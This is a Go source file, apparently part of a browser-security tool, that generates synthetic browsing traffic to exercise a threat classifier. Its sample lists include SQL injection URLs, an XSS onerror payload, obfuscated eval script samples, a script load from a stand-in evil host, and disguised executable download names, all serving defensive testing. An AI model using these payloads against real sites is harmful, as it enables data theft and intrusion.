package input

import (
	"context"
	"math/rand"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"github.com/rs/zerolog/log"

	"github.com/xoelrdgz/pagewarden/internal/domain"
)

// DemoGenerator emits synthetic browsing traffic across a set of tabs.
// AttackPercent of the signals carry something the classifier should flag.
type DemoGenerator struct {
	rate          int
	bufferSize    int
	tabs          int
	attackPercent int
	seed          int64
	mu            sync.Mutex
	running       bool
	stopChan      chan struct{}
	generated     atomic.Uint64

	benignHosts   []string
	benignPaths   []string
	attackURLs    []string
	downloadURLs  []string
	cspHeaders    []domain.Header
	weakHeaders   [][]domain.Header
	scriptSamples []string
	pageThreats   []domain.PageSignal
}

type DemoConfig struct {
	Rate          int
	BufferSize    int
	Tabs          int
	AttackPercent int
	Seed          int64 // 0 seeds from the clock
}

func DefaultDemoConfig() DemoConfig {
	return DemoConfig{
		Rate:          200,
		BufferSize:    10000,
		Tabs:          6,
		AttackPercent: 15,
	}
}

func NewDemoGenerator(config DemoConfig) *DemoGenerator {
	if config.Rate <= 0 {
		config.Rate = 200
	}
	if config.BufferSize <= 0 {
		config.BufferSize = 10000
	}
	if config.Tabs <= 0 {
		config.Tabs = 6
	}
	if config.AttackPercent < 0 || config.AttackPercent > 100 {
		config.AttackPercent = 15
	}

	return &DemoGenerator{
		rate:          config.Rate,
		bufferSize:    config.BufferSize,
		tabs:          config.Tabs,
		attackPercent: config.AttackPercent,
		seed:          config.Seed,
		stopChan:      make(chan struct{}),
		benignHosts: []string{
			"https://news.example", "https://shop.example", "https://docs.example",
			"https://mail.example", "https://video.example", "https://bank.example",
		},
		benignPaths: []string{
			"/", "/index.html", "/about", "/products", "/api/v1/feed",
			"/static/app.css", "/static/app.bundle", "/images/logo.png",
			"/search?q=weather", "/account/settings", "/cart", "/blog/2024/05",
		},
		attackURLs: []string{
			"https://shop.example/item?id=1' OR 1=1--",
			"https://shop.example/products?id=1 UNION SELECT username,password FROM users",
			"https://news.example/out?redirect=https://evil.example",
			"https://cdn.example/payload/stage2",
			"https://login-phishing.example/verify",
			"http://evil-server.example/collect?c=1",
		},
		downloadURLs: []string{
			"https://files.example/setup.exe",
			"https://files.example/invoice.pdf.exe",
			"http://mirror.example/tools.zip",
			"https://files.example/report.docx.scr",
		},
		cspHeaders: []domain.Header{
			{Name: "Content-Security-Policy", Value: "default-src 'self'"},
			{Name: "Strict-Transport-Security", Value: "max-age=63072000"},
			{Name: "X-Frame-Options", Value: "DENY"},
			{Name: "Referrer-Policy", Value: "strict-origin-when-cross-origin"},
			{Name: "Content-Type", Value: "text/html; charset=utf-8"},
		},
		weakHeaders: [][]domain.Header{
			{{Name: "Content-Type", Value: "text/html"}},
			{{Name: "Content-Type", Value: "image/png"}, {Name: "Referrer-Policy", Value: "unsafe-url"}},
			{{Name: "Content-Type", Value: "text/html"}, {Name: "Set-Cookie", Value: "session=abc123; Path=/"}},
		},
		scriptSamples: []string{
			"eval(atob('YWxlcnQoMSk='))",
			"document.write('<script src=//evil.example/x.js></script>')",
			"var f = new Function('return this')()",
		},
		pageThreats: []domain.PageSignal{
			{ThreatType: domain.TypeClipboardTheft, Details: "clipboard read without user gesture"},
			{ThreatType: domain.TypeCredentialHijacking, Details: "password form posting to another origin"},
			{ThreatType: domain.TypeCameraAccess, Details: "getUserMedia video requested"},
		},
	}
}

func (g *DemoGenerator) Start(ctx context.Context) (<-chan domain.Signal, <-chan error) {
	sigChan := make(chan domain.Signal, g.bufferSize)
	errChan := make(chan error, 10)

	g.mu.Lock()
	if g.running {
		g.mu.Unlock()
		close(sigChan)
		close(errChan)
		return sigChan, errChan
	}
	g.running = true
	g.stopChan = make(chan struct{})
	stopChan := g.stopChan
	g.mu.Unlock()

	go func() {
		defer close(sigChan)
		defer close(errChan)

		log.Info().Int("rate", g.rate).Int("tabs", g.tabs).Msg("Demo generator started (batch mode)")

		batchesPerSecond := 20
		batchSize := g.rate / batchesPerSecond
		if batchSize < 1 {
			batchSize = 1
			batchesPerSecond = g.rate
		}
		batchInterval := time.Second / time.Duration(batchesPerSecond)

		ticker := time.NewTicker(batchInterval)
		defer ticker.Stop()

		seed := g.seed
		if seed == 0 {
			seed = time.Now().UnixNano()
		}
		rng := rand.New(rand.NewSource(seed))

		for {
			select {
			case <-ctx.Done():
				log.Info().Uint64("total_generated", g.generated.Load()).Msg("Demo generator stopped (context cancelled)")
				return
			case <-stopChan:
				log.Info().Uint64("total_generated", g.generated.Load()).Msg("Demo generator stopped")
				return
			case <-ticker.C:
				for i := 0; i < batchSize; i++ {
					select {
					case sigChan <- g.Next(rng):
						g.generated.Add(1)
					default:
					}
				}
			}
		}
	}()

	return sigChan, errChan
}

// Next produces one signal from rng.
func (g *DemoGenerator) Next(rng *rand.Rand) domain.Signal {
	tab := domain.TabID(rng.Intn(g.tabs) + 1)
	host := g.benignHosts[rng.Intn(len(g.benignHosts))]

	if rng.Intn(100) >= g.attackPercent {
		switch rng.Intn(5) {
		case 0:
			return domain.GestureSignal{TabID: tab}
		case 1:
			return domain.HeadersSignal{URL: host + "/", TabID: tab, Headers: g.cspHeaders}
		default:
			return domain.RequestSignal{URL: host + g.benignPaths[rng.Intn(len(g.benignPaths))], TabID: tab}
		}
	}

	switch rng.Intn(6) {
	case 0:
		return domain.RequestSignal{URL: g.attackURLs[rng.Intn(len(g.attackURLs))], TabID: tab}
	case 1:
		return domain.RequestSignal{URL: g.downloadURLs[rng.Intn(len(g.downloadURLs))], TabID: tab}
	case 2:
		return domain.HeadersSignal{URL: host + "/login", TabID: tab, Headers: g.weakHeaders[rng.Intn(len(g.weakHeaders))]}
	case 3:
		threat := g.pageThreats[rng.Intn(len(g.pageThreats))]
		threat.PageURL = host + "/"
		threat.TabID = tab
		return threat
	case 4:
		return domain.DOMSignal{
			Observation: domain.Observation{Kind: domain.ObserveInlineScript, Content: g.scriptSamples[rng.Intn(len(g.scriptSamples))]},
			PageURL:     host + "/",
			TabID:       tab,
		}
	default:
		return domain.DOMSignal{
			Observation: domain.Observation{
				Kind:    domain.ObserveSinkWrite,
				Sink:    "innerHTML",
				Content: "<img src=x onerror=alert(" + strconv.Itoa(rng.Intn(1000)) + ")>",
			},
			PageURL: host + "/",
			TabID:   tab,
		}
	}
}

func (g *DemoGenerator) Stop() error {
	g.mu.Lock()
	defer g.mu.Unlock()

	if !g.running {
		return nil
	}

	close(g.stopChan)
	g.running = false

	return nil
}

func (g *DemoGenerator) IsRunning() bool {
	g.mu.Lock()
	defer g.mu.Unlock()
	return g.running
}

func (g *DemoGenerator) Generated() uint64 {
	return g.generated.Load()
}
